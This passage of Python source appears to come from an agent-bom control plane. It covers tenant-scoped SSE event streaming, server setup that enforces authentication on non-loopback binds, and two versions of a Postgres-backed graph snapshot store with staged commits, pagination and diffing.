        self.wfile.flush()

    def _stream_events(
        self, job_id: str, tenant_id: str, last_event_id: int = 0
    ) -> None:
        """SSE scan stream: Last-Event-ID replay from the durable journal,
        then live tail off the event bus, until the job reaches a final
        state (or the streaming deadline).

        Exactly-once, in seq order: the bus subscription opens BEFORE the
        journal replay (nothing published in between is lost), live events
        at seq <= last written seq are deduped, and a seq gap (bounded bus
        dropped under pressure) or an idle tick falls back to a journal
        catch-up read. Replay and live frames serialize the identical
        journal row through one canonical serializer, so a client that
        reconnects with Last-Event-ID sees bytes equal to a client that
        watched live.
        """
        jobs = get_job_store()
        job = jobs.get_job(job_id)
        if job is None or job["tenant_id"] != tenant_id:
            self._deny(404, "job not found")
            return
        sub = event_bus.subscribe(job_id=job_id)
        try:
            self._sse_begin()
            last_seq = max(last_event_id, 0)
            deadline = time.time() + config.EVENT_SSE_DEADLINE_S
            next_keepalive = time.time() + config.EVENT_SSE_KEEPALIVE_S

            def emit_journal_rows(rows: list[dict[str, Any]]) -> int:
                seq = last_seq
                for row in rows:
                    if row["seq"] <= seq:
                        continue
                    seq = row["seq"]
                    self._sse_write_event(seq, "step", _canonical_event_json(row))
                return seq

            last_seq = emit_journal_rows(jobs.events_since(job_id, last_seq))
            while time.time() < deadline:
                bus_event = sub.get(timeout=0.2)
                if bus_event is not None:
                    if bus_event["seq"] == last_seq + 1:
                        last_seq = bus_event["seq"]
                        self._sse_write_event(
                            last_seq, "step", _canonical_event_json(bus_event)
                        )
                    elif bus_event["seq"] > last_seq:
                        # Gap: the bounded bus evicted under pressure —
                        # the journal is the source of truth, re-read it.
                        last_seq = emit_journal_rows(jobs.events_since(job_id, last_seq))
                    continue
                # Idle tick: journal catch-up fallback, terminal check,
                # keepalive comment for proxies.
                last_seq = emit_journal_rows(jobs.events_since(job_id, last_seq))
                job = jobs.get_job(job_id)
                if job and job["status"] in ("complete", "partial", "failed", "cancelled"):
                    self._sse_write_event(
                        last_seq, "done", json.dumps({"status": job["status"]})
                    )
                    return
                if time.time() >= next_keepalive:
                    next_keepalive = time.time() + config.EVENT_SSE_KEEPALIVE_S
                    self.wfile.write(b": keepalive\n\n")
                    self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            return
        finally:
            event_bus.unsubscribe(sub)

    def _stream_firehose(
        self, auth: AuthContext, tenant_q: str = "", status_q: str = ""
    ) -> None:
        """SSE firehose across all jobs: recent-ring catch-up, then live.

        Tenant-bound keys only ever see their own tenant's events; a
        wildcard admin streams everything unless ``?tenant=`` narrows it.
        ``?status=`` filters on the event state (start/complete/…).
        Frame ids are ``{job_id}:{seq}``.
        """
        if auth.tenant_id != WILDCARD_TENANT:
            tenant: str | None = auth.tenant_id
        else:
            tenant = tenant_q or None
        sub = event_bus.subscribe(tenant_id=tenant)
        try:
            self._sse_begin()
            seen: set[tuple[str, int]] = set()
            for event in event_bus.recent(tenant_id=tenant):
                if status_q and event.get("state") != status_q:
                    continue
                key = (event["job_id"], event["seq"])
                seen.add(key)
                self._sse_write_event(
                    f"{key[0]}:{key[1]}", "step", json.dumps(event, default=str)
                )
            deadline = time.time() + config.EVENT_SSE_DEADLINE_S
            next_keepalive = time.time() + config.EVENT_SSE_KEEPALIVE_S
            while time.time() < deadline:
                event = sub.get(timeout=0.5)
                if event is not None:
                    key = (event["job_id"], event["seq"])
                    if key in seen:
                        seen.discard(key)  # replay/live overlap, once only
                        continue
                    if status_q and event.get("state") != status_q:
                        continue
                    self._sse_write_event(
                        f"{key[0]}:{key[1]}", "step", json.dumps(event, default=str)
                    )
                elif time.time() >= next_keepalive:
                    next_keepalive = time.time() + config.EVENT_SSE_KEEPALIVE_S
                    self.wfile.write(b": keepalive\n\n")
                    self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            return
        finally:
            event_bus.unsubscribe(sub)

    def do_GET(self) -> None:  # noqa: N802
        self._handle("GET")

    def do_POST(self) -> None:  # noqa: N802
        self._handle("POST")

    def do_DELETE(self) -> None:  # noqa: N802
        self._handle("DELETE")


def make_server(
    host: str = "127.0.0.1",
    port: int = 8765,
    api_key: str | None = None,
    allow_insecure_no_auth: bool = False,
    key_registry: APIKeyRegistry | None = None,
) -> ThreadingHTTPServer:
    if api_key:
        # An explicit CLI key is EXCLUSIVE: it is the only accepted secret
        # (a rotated-away AGENT_BOM_API_KEY left in the environment must
        # not keep admin access).
        registry = APIKeyRegistry().with_key(api_key, AuthContext("*", "admin", "cli"))
    elif key_registry is not None:
        registry = key_registry
    else:
        registry = APIKeyRegistry.from_env()
    if (
        host not in ("127.0.0.1", "localhost", "::1")
        and not registry.enabled
        and not allow_insecure_no_auth
    ):
        raise SystemExit(
            "refusing to bind non-loopback without auth; pass --api-key, configure "
            "AGENT_BOM_API_KEYS, or pass --allow-insecure-no-auth "
            "(reference README.md:90-92 contract)"
        )

    class BoundHandler(ApiHandler):
        pass

    BoundHandler.key_registry = registry
    BoundHandler.rate_limiter = RateLimiter(config.API_RATE_LIMIT_PER_MIN)
    return ThreadingHTTPServer((host, port), BoundHandler)


def run_server(
    host: str = "127.0.0.1",
    port: int = 8765,
    api_key: str | None = None,
    allow_insecure_no_auth: bool = False,
) -> int:
    server = make_server(host, port, api_key, allow_insecure_no_auth)
    logger.info("control plane listening on %s:%s", host, port)
    print(f"agent-bom control plane listening on http://{host}:{port}")
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.shutdown()
    return 0
