"""PostgresGraphStore — Postgres parity for the SQLite graph store.

Reference parity: src/agent_bom/api/postgres_graph.py:235
(PostgresGraphStore) — the same store contract as
api/graph_store.SQLiteGraphStore (persist/load/snapshots/search/diff/
CAS replace), backed by psycopg (v3) when available. The import is
gated: hosts without psycopg keep the SQLite default and this module
raises only when actually instantiated.

The SAME contract test suite runs against both backends
(tests/test_store_contract.py), mirroring the reference's store-parity
CI discipline (SURVEY.md §4 "store-contract parity").
"""

from __future__ import annotations

import json
import threading
import time
from typing import Any

from agent_bom_trn.api.graph_store import enrich_diff
from agent_bom_trn.graph.container import UnifiedGraph

_DDL = """
CREATE TABLE IF NOT EXISTS graph_snapshots (
    id BIGSERIAL PRIMARY KEY,
    scan_id TEXT NOT NULL,
    tenant_id TEXT NOT NULL,
    created_at DOUBLE PRECISION NOT NULL,
    is_current INTEGER NOT NULL DEFAULT 0,
    node_count INTEGER NOT NULL,
    edge_count INTEGER NOT NULL,
    document TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_snapshots_tenant ON graph_snapshots (tenant_id, is_current);
CREATE TABLE IF NOT EXISTS graph_nodes (
    snapshot_id BIGINT NOT NULL,
    node_id TEXT NOT NULL,
    entity_type TEXT,
    label TEXT,
    severity TEXT,
    risk_score DOUBLE PRECISION,
    document TEXT,
    PRIMARY KEY (snapshot_id, node_id)
);
CREATE INDEX IF NOT EXISTS idx_nodes_label ON graph_nodes (snapshot_id, label);
CREATE TABLE IF NOT EXISTS graph_edges (
    snapshot_id BIGINT NOT NULL,
    edge_id TEXT NOT NULL,
    source TEXT NOT NULL,
    target TEXT NOT NULL,
    relationship TEXT,
    document TEXT,
    PRIMARY KEY (snapshot_id, edge_id)
);
"""


def psycopg_available() -> bool:
    try:
        import psycopg  # noqa: F401,PLC0415

        return True
    except ImportError:
        return False


class PostgresGraphStore:
    """Same contract as SQLiteGraphStore over a Postgres connection."""

    def __init__(self, dsn: str) -> None:
        import psycopg  # noqa: PLC0415 - gated dependency

        self._conn = psycopg.connect(dsn, autocommit=False)
        self._lock = threading.RLock()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(_DDL)
            # Additive migration (PR 9): job_id keys the per-job publish
            # dedupe for crash-safe staged commits.
            cur.execute(
                "ALTER TABLE graph_snapshots ADD COLUMN IF NOT EXISTS job_id TEXT"
            )
            self._conn.commit()
        self._graph_cache: dict[str, tuple[int, UnifiedGraph]] = {}

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    # ── snapshots ───────────────────────────────────────────────────────

    def persist_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        return self._persist(graph, scan_id, tenant_id, 1, job_id, demote_current=True)

    def stage_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Staged build (is_current = -1, invisible until commit) — see
        SQLiteGraphStore.stage_graph for the crash-safety contract."""
        if job_id is not None:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND job_id = %s"
                    " AND is_current = -1",
                    (tenant_id, job_id),
                )
                for (orphan,) in cur.fetchall():
                    cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_edges WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_snapshots WHERE id = %s", (orphan,))
                self._conn.commit()
        return self._persist(graph, scan_id, tenant_id, -1, job_id, demote_current=False)

    def commit_staged(self, snapshot_id: int, tenant_id: str = "default") -> bool:
        """Atomic staged → current swap; idempotent on re-commit."""
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT is_current FROM graph_snapshots WHERE id = %s AND tenant_id = %s"
                " FOR UPDATE",
                (snapshot_id, tenant_id),
            )
            row = cur.fetchone()
            if row is None:
                self._conn.rollback()
                return False
            if int(row[0]) >= 0:
                self._conn.commit()
                return True
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = %s AND is_current = 1",
                (tenant_id,),
            )
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 1 WHERE id = %s", (snapshot_id,)
            )
            self._conn.commit()
            return True

    def job_snapshot_id(self, tenant_id: str, job_id: str) -> int | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND job_id = %s"
                " AND is_current >= 0 ORDER BY id DESC LIMIT 1",
                (tenant_id, job_id),
            )
            row = cur.fetchone()
            self._conn.commit()
        return int(row[0]) if row else None

    def _persist(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str,
        is_current: int, job_id: str | None, demote_current: bool
    ) -> int:
        doc = graph.to_dict()
        with self._lock, self._conn.cursor() as cur:
            if demote_current:
                cur.execute(
                    "UPDATE graph_snapshots SET is_current = 0"
                    " WHERE tenant_id = %s AND is_current = 1",
                    (tenant_id,),
                )
            cur.execute(
                "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
                " node_count, edge_count, document, job_id)"
                " VALUES (%s, %s, %s, %s, %s, %s, %s, %s)"
                " RETURNING id",
                (
                    scan_id,
                    tenant_id,
                    time.time(),
                    is_current,
                    graph.node_count,
                    graph.edge_count,
                    json.dumps(doc, default=str),
                    job_id,
                ),
            )
            snapshot_id = int(cur.fetchone()[0])
            cur.executemany(
                "INSERT INTO graph_nodes VALUES (%s, %s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (snapshot_id, node_id) DO NOTHING",
                [
                    (
                        snapshot_id,
                        n["id"],
                        n["entity_type"],
                        n["label"],
                        n.get("severity"),
                        n.get("risk_score"),
                        json.dumps(n, default=str),
                    )
                    for n in doc["nodes"]
                ],
            )
            cur.executemany(
                "INSERT INTO graph_edges VALUES (%s, %s, %s, %s, %s, %s)"
                " ON CONFLICT (snapshot_id, edge_id) DO NOTHING",
                [
                    (
                        snapshot_id,
                        e["id"],
                        e["source"],
                        e["target"],
                        e["relationship"],
                        json.dumps(e, default=str),
                    )
                    for e in doc["edges"]
                ],
            )
            self._conn.commit()
            return snapshot_id

    def replace_current_snapshot(
        self,
        graph: UnifiedGraph,
        tenant_id: str = "default",
        expected_snapshot_id: int | None = None,
    ) -> bool:
        """CAS overwrite of the current snapshot (no history row)."""
        doc = graph.to_dict()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND is_current = 1"
                " FOR UPDATE",
                (tenant_id,),
            )
            row = cur.fetchone()
            if row is None:
                self._conn.rollback()
                return False
            current_id = int(row[0])
            if expected_snapshot_id is not None and current_id != expected_snapshot_id:
                self._conn.rollback()
                return False
            cur.execute(
                "UPDATE graph_snapshots SET document = %s, node_count = %s, edge_count = %s,"
                " created_at = %s WHERE id = %s",
                (
                    json.dumps(doc, default=str),
                    graph.node_count,
                    graph.edge_count,
                    time.time(),
                    current_id,
                ),
            )
            cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = %s", (current_id,))
            cur.execute("DELETE FROM graph_edges WHERE snapshot_id = %s", (current_id,))
            cur.executemany(
                "INSERT INTO graph_nodes VALUES (%s, %s, %s, %s, %s, %s, %s)",
                [
                    (
                        current_id,
                        n["id"],
                        n["entity_type"],
                        n["label"],
                        n.get("severity"),
                        n.get("risk_score"),
                        json.dumps(n, default=str),
                    )
                    for n in doc["nodes"]
                ],
            )
            cur.executemany(
                "INSERT INTO graph_edges VALUES (%s, %s, %s, %s, %s, %s)",
                [
                    (
                        current_id,
                        e["id"],
                        e["source"],
                        e["target"],
                        e["relationship"],
                        json.dumps(e, default=str),
                    )
                    for e in doc["edges"]
                ],
            )
            self._conn.commit()
        self._graph_cache.pop(tenant_id, None)
        return True

    def current_snapshot_id(self, tenant_id: str = "default") -> int | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND is_current = 1",
                (tenant_id,),
            )
            row = cur.fetchone()
            self._conn.commit()
            return int(row[0]) if row else None

    def load_graph(
        self, tenant_id: str = "default", snapshot_id: int | None = None
    ) -> UnifiedGraph | None:
        with self._lock, self._conn.cursor() as cur:
            if snapshot_id is None:
                cur.execute(
                    "SELECT id, document FROM graph_snapshots"
                    " WHERE tenant_id = %s AND is_current = 1",
                    (tenant_id,),
                )
            else:
                cur.execute(
                    "SELECT id, document FROM graph_snapshots WHERE id = %s AND tenant_id = %s",
                    (snapshot_id, tenant_id),
                )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        sid = int(row[0])
        cached = self._graph_cache.get(tenant_id)
        if cached is not None and cached[0] == sid:
            return cached[1]
        graph = UnifiedGraph.from_dict(json.loads(row[1]))
        self._graph_cache[tenant_id] = (sid, graph)
        return graph

    def snapshots(self, tenant_id: str = "default", limit: int = 20) -> list[dict[str, Any]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id, scan_id, created_at, is_current, node_count, edge_count"
                " FROM graph_snapshots WHERE tenant_id = %s AND is_current >= 0"
                " ORDER BY id DESC LIMIT %s",
                (tenant_id, limit),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [
            {
                "id": int(r[0]),
                "scan_id": r[1],
                "created_at": r[2],
                "is_current": bool(r[3]),
                "node_count": r[4],
                "edge_count": r[5],
            }
            for r in rows
        ]

    def search_nodes(
        self, query: str, tenant_id: str = "default", limit: int = 50
    ) -> list[dict[str, Any]]:
        sid = self.current_snapshot_id(tenant_id)
        if sid is None:
            return []
        pattern = f"%{query.lower()}%"
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = %s AND"
                " (LOWER(label) LIKE %s OR LOWER(node_id) LIKE %s)"
                " ORDER BY risk_score DESC NULLS LAST LIMIT %s",
                (sid, pattern, pattern, limit),
            )
            rows = cur.fetchall()
            self._conn.commit()
        return [json.loads(r[0]) for r in rows]

    def get_node(self, node_id: str, tenant_id: str = "default") -> dict[str, Any] | None:
        sid = self.current_snapshot_id(tenant_id)
        if sid is None:
            return None
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = %s AND node_id = %s",
                (sid, node_id),
            )
            row = cur.fetchone()
            self._conn.commit()
        return json.loads(row[0]) if row else None

    def diff_snapshots(self, old_id: int, new_id: int) -> dict[str, Any]:
        """Node/edge additions + removals (same shape as the SQLite store),
        plus the PR-14 per-type breakdowns and blast-radius delta."""

        def node_meta(sid: int) -> dict[str, tuple]:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT node_id, entity_type, severity, risk_score"
                    " FROM graph_nodes WHERE snapshot_id = %s",
                    (sid,),
                )
                rows = cur.fetchall()
                self._conn.commit()
            return {r[0]: (r[1], r[2], r[3]) for r in rows}

        def edge_rel(sid: int) -> dict[str, str]:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT edge_id, relationship FROM graph_edges WHERE snapshot_id = %s",
                    (sid,),
                )
                rows = cur.fetchall()
                self._conn.commit()
            return {r[0]: r[1] for r in rows}

        old_nodes = node_meta(old_id)
        new_nodes = node_meta(new_id)
        old_edges = edge_rel(old_id)
        new_edges = edge_rel(new_id)
        delta = {
            "nodes_added": sorted(new_nodes.keys() - old_nodes.keys()),
            "nodes_removed": sorted(old_nodes.keys() - new_nodes.keys()),
            "edges_added": sorted(new_edges.keys() - old_edges.keys()),
            "edges_removed": sorted(old_edges.keys() - new_edges.keys()),
            "old_snapshot_id": old_id,
            "new_snapshot_id": new_id,
        }
        return enrich_diff(delta, old_nodes, new_nodes, old_edges, new_edges)
