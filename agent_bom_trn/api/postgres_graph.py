"""PostgresGraphStore — Postgres parity for the SQLite graph store.

Reference parity: src/agent_bom/api/postgres_graph.py:235
(PostgresGraphStore) — the same store contract as
api/graph_store.SQLiteGraphStore (persist/load/snapshots/search/diff/
CAS replace), backed by psycopg (v3) when available. The import is
gated: hosts without psycopg keep the SQLite default and this module
raises only when actually instantiated.

The SAME contract test suite runs against both backends
(tests/test_store_contract.py), mirroring the reference's store-parity
CI discipline (SURVEY.md §4 "store-contract parity").
"""

from __future__ import annotations

import json
import threading
import time
from typing import Any

from agent_bom_trn.api.graph_store import (
    _edge_row,
    _node_row,
    enrich_diff,
    merge_sorted_diff,
)
from agent_bom_trn.graph.container import UnifiedGraph

_DDL = """
CREATE TABLE IF NOT EXISTS graph_snapshots (
    id BIGSERIAL PRIMARY KEY,
    scan_id TEXT NOT NULL,
    tenant_id TEXT NOT NULL,
    created_at DOUBLE PRECISION NOT NULL,
    is_current INTEGER NOT NULL DEFAULT 0,
    node_count INTEGER NOT NULL,
    edge_count INTEGER NOT NULL,
    document TEXT NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_snapshots_tenant ON graph_snapshots (tenant_id, is_current);
CREATE TABLE IF NOT EXISTS graph_nodes (
    snapshot_id BIGINT NOT NULL,
    node_id TEXT NOT NULL,
    entity_type TEXT,
    label TEXT,
    severity TEXT,
    risk_score DOUBLE PRECISION,
    document TEXT,
    PRIMARY KEY (snapshot_id, node_id)
);
CREATE INDEX IF NOT EXISTS idx_nodes_label ON graph_nodes (snapshot_id, label);
CREATE TABLE IF NOT EXISTS graph_edges (
    snapshot_id BIGINT NOT NULL,
    edge_id TEXT NOT NULL,
    source TEXT NOT NULL,
    target TEXT NOT NULL,
    relationship TEXT,
    direction TEXT,
    traversable INTEGER,
    document TEXT,
    PRIMARY KEY (snapshot_id, edge_id)
);
CREATE INDEX IF NOT EXISTS idx_edges_source ON graph_edges (snapshot_id, source);
CREATE INDEX IF NOT EXISTS idx_edges_target ON graph_edges (snapshot_id, target);
"""

# Explicit column lists (mirrors graph_store._NODE_INSERT/_EDGE_INSERT):
# positional VALUES would shear when a migration appends a column.
_PG_NODE_INSERT = (
    "INSERT INTO graph_nodes"
    " (snapshot_id, node_id, entity_type, label, severity, risk_score, document)"
    " VALUES (%s, %s, %s, %s, %s, %s, %s)"
)
_PG_EDGE_INSERT = (
    "INSERT INTO graph_edges"
    " (snapshot_id, edge_id, source, target, relationship, direction, traversable, document)"
    " VALUES (%s, %s, %s, %s, %s, %s, %s, %s)"
)
_PG_NODE_UPSERT = _PG_NODE_INSERT + (
    " ON CONFLICT (snapshot_id, node_id) DO UPDATE SET entity_type = EXCLUDED.entity_type,"
    " label = EXCLUDED.label, severity = EXCLUDED.severity,"
    " risk_score = EXCLUDED.risk_score, document = EXCLUDED.document"
)
_PG_EDGE_UPSERT = _PG_EDGE_INSERT + (
    " ON CONFLICT (snapshot_id, edge_id) DO UPDATE SET source = EXCLUDED.source,"
    " target = EXCLUDED.target, relationship = EXCLUDED.relationship,"
    " direction = EXCLUDED.direction, traversable = EXCLUDED.traversable,"
    " document = EXCLUDED.document"
)


def psycopg_available() -> bool:
    try:
        import psycopg  # noqa: F401,PLC0415

        return True
    except ImportError:
        return False


class PostgresGraphStore:
    """Same contract as SQLiteGraphStore over a Postgres connection."""

    def __init__(self, dsn: str) -> None:
        import psycopg  # noqa: PLC0415 - gated dependency

        from agent_bom_trn.db import instrument  # noqa: PLC0415

        self._conn = instrument.InstrumentedConnection(
            psycopg.connect(dsn, autocommit=False),
            store="graph_store", backend="postgres",
        )
        self._lock = threading.RLock()
        with self._lock, self._conn.cursor() as cur:
            cur.execute(_DDL)
            # Additive migrations: job_id (PR 9) keys the per-job publish
            # dedupe for crash-safe staged commits; the edge
            # direction/traversable columns and source/target indexes
            # (PR 15) serve the store-backed lazy view's metadata scan
            # and adjacency queries on pre-existing databases.
            cur.execute(
                "ALTER TABLE graph_snapshots ADD COLUMN IF NOT EXISTS job_id TEXT"
            )
            cur.execute("ALTER TABLE graph_edges ADD COLUMN IF NOT EXISTS direction TEXT")
            cur.execute(
                "ALTER TABLE graph_edges ADD COLUMN IF NOT EXISTS traversable INTEGER"
            )
            cur.execute(
                "CREATE INDEX IF NOT EXISTS idx_edges_source"
                " ON graph_edges (snapshot_id, source)"
            )
            cur.execute(
                "CREATE INDEX IF NOT EXISTS idx_edges_target"
                " ON graph_edges (snapshot_id, target)"
            )
            self._conn.commit()
        self._graph_cache: dict[str, tuple[int, UnifiedGraph]] = {}

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    # ── snapshots ───────────────────────────────────────────────────────

    def persist_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        return self._persist(graph, scan_id, tenant_id, 1, job_id, demote_current=True)

    def stage_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Staged build (is_current = -1, invisible until commit) — see
        SQLiteGraphStore.stage_graph for the crash-safety contract."""
        if job_id is not None:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND job_id = %s"
                    " AND is_current = -1",
                    (tenant_id, job_id),
                )
                for (orphan,) in cur.fetchall():
                    cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_edges WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_snapshots WHERE id = %s", (orphan,))
                self._conn.commit()
        return self._persist(graph, scan_id, tenant_id, -1, job_id, demote_current=False)

    def commit_staged(self, snapshot_id: int, tenant_id: str = "default") -> bool:
        """Atomic staged → current swap; idempotent on re-commit."""
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT is_current FROM graph_snapshots WHERE id = %s AND tenant_id = %s"
                " FOR UPDATE",
                (snapshot_id, tenant_id),
            )
            row = cur.fetchone()
            if row is None:
                self._conn.rollback()
                return False
            if int(row[0]) >= 0:
                self._conn.commit()
                return True
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = %s AND is_current = 1",
                (tenant_id,),
            )
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 1 WHERE id = %s", (snapshot_id,)
            )
            self._conn.commit()
            return True

    def job_snapshot_id(self, tenant_id: str, job_id: str) -> int | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND job_id = %s"
                " AND is_current >= 0 ORDER BY id DESC LIMIT 1",
                (tenant_id, job_id),
            )
            row = cur.fetchone()
            self._conn.commit()
        return int(row[0]) if row else None

    # ── streamed snapshots (PR 15) — see SQLiteGraphStore for contract ──

    def begin_streamed_snapshot(
        self, scan_id: str, tenant_id: str = "default", job_id: str | None = None
    ) -> int:
        with self._lock, self._conn.cursor() as cur:
            if job_id is not None:
                cur.execute(
                    "SELECT id FROM graph_snapshots WHERE tenant_id = %s AND job_id = %s"
                    " AND is_current = -1",
                    (tenant_id, job_id),
                )
                for (orphan,) in cur.fetchall():
                    cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_edges WHERE snapshot_id = %s", (orphan,))
                    cur.execute("DELETE FROM graph_snapshots WHERE id = %s", (orphan,))
            cur.execute(
                "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
                " node_count, edge_count, document, job_id)"
                " VALUES (%s, %s, %s, -1, 0, 0, %s, %s) RETURNING id",
                (
                    scan_id,
                    tenant_id,
                    time.time(),
                    json.dumps({"schema_version": "1", "streamed": True}),
                    job_id,
                ),
            )
            snapshot_id = int(cur.fetchone()[0])
            self._conn.commit()
            return snapshot_id

    def append_snapshot_nodes(self, snapshot_id: int, node_docs) -> None:
        rows = [_node_row(snapshot_id, n) for n in node_docs]
        with self._lock, self._conn.cursor() as cur:
            cur.executemany(_PG_NODE_UPSERT, rows)
            self._conn.commit()

    def append_snapshot_edges(self, snapshot_id: int, edge_docs) -> None:
        rows = [_edge_row(snapshot_id, e) for e in edge_docs]
        with self._lock, self._conn.cursor() as cur:
            cur.executemany(_PG_EDGE_UPSERT, rows)
            self._conn.commit()

    def finalize_streamed_snapshot(
        self,
        snapshot_id: int,
        node_count: int,
        edge_count: int,
        document_extra: dict[str, Any] | None = None,
    ) -> None:
        doc: dict[str, Any] = {"schema_version": "1", "streamed": True}
        if document_extra:
            doc.update(document_extra)
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "UPDATE graph_snapshots SET node_count = %s, edge_count = %s, document = %s"
                " WHERE id = %s",
                (node_count, edge_count, json.dumps(doc, default=str), snapshot_id),
            )
            self._conn.commit()

    def snapshot_info(self, snapshot_id: int) -> dict[str, Any] | None:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT id, scan_id, tenant_id, created_at, is_current, node_count,"
                " edge_count, document FROM graph_snapshots WHERE id = %s",
                (snapshot_id,),
            )
            row = cur.fetchone()
            self._conn.commit()
        if row is None:
            return None
        return {
            "id": int(row[0]),
            "scan_id": row[1],
            "tenant_id": row[2],
            "created_at": row[3],
            "is_current": int(row[4]),
            "node_count": int(row[5]),
            "edge_count": int(row[6]),
            "document": json.loads(row[7]),
        }

    # ── paginated iteration (PR 15) — keyset pages, lock per page ───────

    def iter_nodes(self, snapshot_id: int, entity_type: str | None = None, batch: int = 1000):
        type_sql = " AND entity_type = %s" if entity_type else ""
        type_args = (entity_type,) if entity_type else ()
        last = ""
        while True:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = %s"
                    f" AND node_id > %s{type_sql} ORDER BY node_id LIMIT %s",
                    (snapshot_id, last, *type_args, batch),
                )
                rows = cur.fetchall()
                self._conn.commit()
            if not rows:
                return
            last = rows[-1][0]
            for _, doc in rows:
                yield json.loads(doc)

    def iter_edges(self, snapshot_id: int, relationships=None, batch: int = 1000):
        rels = tuple(relationships) if relationships else ()
        rel_sql = f" AND relationship IN ({','.join(['%s'] * len(rels))})" if rels else ""
        last = ""
        while True:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT edge_id, document FROM graph_edges WHERE snapshot_id = %s"
                    f" AND edge_id > %s{rel_sql} ORDER BY edge_id LIMIT %s",
                    (snapshot_id, last, *rels, batch),
                )
                rows = cur.fetchall()
                self._conn.commit()
            if not rows:
                return
            last = rows[-1][0]
            for _, doc in rows:
                yield json.loads(doc)

    def iter_node_meta(self, snapshot_id: int, batch: int = 4000):
        last = ""
        while True:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT node_id, entity_type, severity, risk_score FROM graph_nodes"
                    " WHERE snapshot_id = %s AND node_id > %s ORDER BY node_id LIMIT %s",
                    (snapshot_id, last, batch),
                )
                rows = cur.fetchall()
                self._conn.commit()
            if not rows:
                return
            last = rows[-1][0]
            yield from rows

    def iter_edge_meta(self, snapshot_id: int, batch: int = 4000):
        last = ""
        while True:
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT edge_id, source, target, relationship, direction, traversable,"
                    " CASE WHEN direction IS NULL THEN document ELSE NULL END"
                    " FROM graph_edges WHERE snapshot_id = %s AND edge_id > %s"
                    " ORDER BY edge_id LIMIT %s",
                    (snapshot_id, last, batch),
                )
                rows = cur.fetchall()
                self._conn.commit()
            if not rows:
                return
            last = rows[-1][0]
            for eid, src, dst, rel, direction, trav, doc in rows:
                if direction is None:
                    parsed = json.loads(doc)
                    direction = parsed.get("direction", "directed")
                    trav = 1 if parsed.get("traversable", True) else 0
                yield (eid, src, dst, rel, direction, int(trav))

    def fetch_node_docs(self, snapshot_id: int, node_ids) -> dict[str, dict[str, Any]]:
        docs: dict[str, dict[str, Any]] = {}
        ids = list(node_ids)
        for i in range(0, len(ids), 500):
            chunk = ids[i : i + 500]
            with self._lock, self._conn.cursor() as cur:
                cur.execute(
                    "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = %s"
                    " AND node_id = ANY(%s)",
                    (snapshot_id, chunk),
                )
                rows = cur.fetchall()
                self._conn.commit()
            for nid, doc in rows:
                docs[nid] = json.loads(doc)
        return docs

    def fetch_node_range(
        self, snapshot_id: int, first_id: str, last_id: str
    ) -> list[tuple[str, dict[str, Any]]]:
        with self._lock, self._conn.cursor() as cur:
            cur.execute(
                "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = %s"
